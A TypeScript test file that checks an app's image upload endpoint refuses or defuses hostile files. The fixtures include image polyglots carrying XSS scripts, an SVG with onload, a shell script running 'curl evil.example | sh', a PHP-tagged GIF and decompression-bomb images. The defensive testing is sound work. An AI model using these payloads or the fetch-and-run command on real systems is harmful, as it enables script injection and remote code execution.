import { ROUTES } from "@bandcraft/contract/routes";
import { ZWritingListResponse } from "@bandcraft/contract/writing";
import { solidPng } from "@bandcraft/domain/testing/solid-png";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bearer, createTestContext, DIALECTS, signIn, type TTestContext } from "../../../test/harness";
import { animatedGif, blackPng, realJpeg } from "../../../test/image-fixtures";
import { multipart } from "../../../test/multipart";

const SCRIPT = "<html><body><script>alert(document.domain)</script></body></html>";
const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
  Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : Buffer.from(p))));
const le16 = (n: number) => [n & 0xff, n >> 8];
const be16 = (n: number) => [n >> 8, n & 0xff];

/** A 1 × 1 GIF (header, palette, one image block), whose trailer may be followed by anything. */
const gif = (width = 1, height = 1) =>
  bytes(
    "GIF89a",
    [...le16(width), ...le16(height), 0x80, 0, 0],
    [0, 0, 0, 0xff, 0xff, 0xff],
    [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b],
  );

/** A JPEG header: start of image, a comment segment, then a baseline frame of width × height. */
const jpeg = (width: number, height: number, comment = "") =>
  bytes(
    [0xff, 0xd8],
    [0xff, 0xfe, ...be16(comment.length + 2)],
    comment,
    [0xff, 0xc0, 0x00, 0x11, 0x08, ...be16(height), ...be16(width), 0x03],
    [1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1],
    [0xff, 0xd9],
  );

/** A WebP header (VP8X) naming a canvas of width × height. */
const webp = (width: number, height: number) => {
  const w = width - 1;
  const h = height - 1;
  return bytes(
    "RIFF",
    [30, 0, 0, 0],
    "WEBPVP8X",
    [10, 0, 0, 0, 0, 0, 0, 0],
    [w & 0xff, (w >> 8) & 0xff, w >> 16, h & 0xff, (h >> 8) & 0xff, h >> 16],
  );
};

/** A PNG header whose IHDR claims width × height (the rest of the file is a real 1 × 1 PNG). */
const pngClaiming = (width: number, height: number) => {
  const size = Buffer.alloc(8);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  const real = solidPng(1, 1);
  return Buffer.concat([real.subarray(0, 16), size, real.subarray(24)]);
};

/** A real 2 × 2 JPEG with `comment` in a comment segment right after its start-of-image marker. */
const jpegWithComment = async (comment: string) => {
  const real = await realJpeg(2, 2);
  return bytes(real.subarray(0, 2), [0xff, 0xfe, ...be16(comment.length + 2)], comment, real.subarray(2));
};

/** The attack's bomb: a PNG of about 40 KB that decodes to 8,000 × 5,000 (40 megapixels). */
const BOMB = blackPng(8_000, 5_000);

/** Polyglots: a real picture that is also an HTML page or a script. Accepted only as the picture. */
const POLYGLOTS: [string, Buffer, string][] = [
  ["a PNG with an HTML page and script appended after IEND", bytes(solidPng(4, 4), SCRIPT), "image/png"],
  [
    "a GIF whose trailer is followed by JavaScript",
    bytes(gif(), "\n*/=1;alert(document.cookie);/*", SCRIPT),
    "image/gif",
  ],
  ["a JPEG with a script in its comment segment", await jpegWithComment(SCRIPT), "image/jpeg"],
];

/** Files that must never be stored: not pictures, or pictures too large to draw. */
const REFUSED: [string, Buffer, string][] = [
  ["an HTML page named chart.png", bytes("<!DOCTYPE html>", SCRIPT), "The file is not an image"],
  [
    "an SVG with onload declared as a PNG",
    bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "The file is not an image",
  ],
  [
    "a Linux executable renamed chart.png",
    bytes([0x7f], "ELF", [2, 1, 1], Buffer.alloc(120)),
    "The file is not an image",
  ],
  ["a shell script renamed chart.png", bytes("#!/bin/sh\ncurl evil.example | sh\n"), "The file is not an image"],
  ["a PHP script behind a GIF signature cut short", bytes("GIF89a<?php"), "The image is too large"],
  // The classic GIF/JavaScript polyglot starts "GIF89a/*": its width bytes read 10,799 px.
  ["the classic GIF89a/* polyglot", bytes("GIF89a/*", [1, 0, 0x80, 0, 0], "*/=1;alert(1);"), "The image is too large"],
  ["a PNG claiming 10,001 px wide", pngClaiming(10_001, 1), "The image is too large"],
  ["a PNG claiming 8,000 × 8,000 (64 megapixels)", pngClaiming(8_000, 8_000), "The image is too large"],
  ["a GIF claiming 65,535 × 65,535", gif(65_535, 65_535), "The image is too large"],
  ["a JPEG claiming 60,000 × 60,000", jpeg(60_000, 60_000), "The image is too large"],
  ["a WebP claiming 16,384 × 16,384", webp(16_384, 16_384), "The image is too large"],
  ["a PNG claiming 0 × 0", pngClaiming(0, 0), "The file is not an image"],
  [`a ${Math.round(BOMB.length / 1024)} KB PNG that decodes to 40 megapixels`, BOMB, "The image is too large"],
  ["a PNG claiming 4,097 px wide", pngClaiming(4_097, 1), "The image is too large"],
  ["a bare 10-byte GIF header", bytes("GIF89a", le16(2), le16(2)), "The file is not an image"],
  ["a GIF header and palette with no picture", gif().subarray(0, 19), "The file is not an image"],
  ["a JPEG header with a frame but no picture data", jpeg(2, 2), "The file is not an image"],
  ["a WebP header with no picture data", webp(2, 2), "The file is not an image"],
  ["a real PNG cut short", solidPng(16, 16).subarray(0, 60), "The file is not an image"],
  // Each frame is within the limits; all five together (20 megapixels) are not.
  ["an animated GIF of five 2,000 × 2,000 frames", await animatedGif(2_000, 2_000, 5), "The image is too large"],
];

describe.each(DIALECTS)("hostile uploads on %s", (dialect) => {
  let ctx: TTestContext;
  let admin: string;
  let published = 1_799_000_000;
  beforeAll(async () => {
    ctx = await createTestContext(dialect);
    admin = await signIn(ctx);
  });
  afterAll(async () => ctx?.close());

  /** Adds a task 1 with the picture under a hostile name and declared type; a later publish time each. */
  async function upload(picture: Buffer) {
    published += 1;
    const writingData = JSON.stringify({
      writingPractices: {
        part: 1,
        title: `Upload ${published}`,
        content: "The chart shows something.",
        theme: ["bar_chart"],
        publishTime: String(published),
      },
    });
    const body = await multipart({ writingData, pic: { bytes: picture, name: "chart.html", type: "text/html" } });
    return ctx.app.inject({
      method: "POST",
      url: ROUTES.adminWritingAdd.path,
      payload: body.payload,
      headers: { ...body.headers, ...bearer(admin) },
    });
  }

  /** The picture URL of the newest task 1, as learners get it. */
  async function newestPicture(): Promise<string | string[] | undefined> {
    const res = await ctx.app.inject({
      method: "POST",
      url: ROUTES.writingList.path,
      payload: { part: 1, paginationRequest: { page: 1, pageSize: 1 } },
      headers: bearer(admin),
    });
    return ZWritingListResponse.parse(res.json()).data[0]?.pic;
  }

  it.each(POLYGLOTS)("stores %s as the picture and serves it inert", async (_label, picture, mime) => {
    const res = await upload(picture);
    expect(res.statusCode, res.body).toBe(200);
    const url = String(await newestPicture());
    // Named by the checked type, never by the client's "chart.html" or "text/html".
    expect(url).toMatch(new RegExp(`^/api/images/[0-9a-f]{64}\\.${mime === "image/jpeg" ? "jpg" : mime.slice(6)}$`));
    // Asking for the same bytes under another extension changes nothing.
    for (const asked of [url, url.replace(/\.[a-z]+$/, ".html"), url.replace(/\.[a-z]+$/, ".svg")]) {
      const served = await ctx.app.inject({ method: "GET", url: asked });
      expect(served.statusCode, asked).toBe(200);
      expect(served.headers["content-type"]).toBe(mime);
      expect(served.headers["x-content-type-options"]).toBe("nosniff");
      const csp = String(served.headers["content-security-policy"]);
      expect(csp).toMatch(/^default-src 'none'(;|$)/);
      expect(csp).not.toMatch(/script-src/);
      expect(served.rawPayload.equals(picture)).toBe(true);
    }
  });

  it.each(REFUSED)("refuses %s and stores nothing", async (_label, picture, message) => {
    const before = await newestPicture();
    const count = await ctx.deps.db
      .selectFrom("images")
      .select((eb) => eb.fn.countAll().as("n"))
      .executeTakeFirst();
    const res = await upload(picture);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().errMsg).toContain(message);
    expect(await newestPicture()).toBe(before);
    const after = await ctx.deps.db
      .selectFrom("images")
      .select((eb) => eb.fn.countAll().as("n"))
      .executeTakeFirst();
    expect(Number(after?.n)).toBe(Number(count?.n));
  });
});
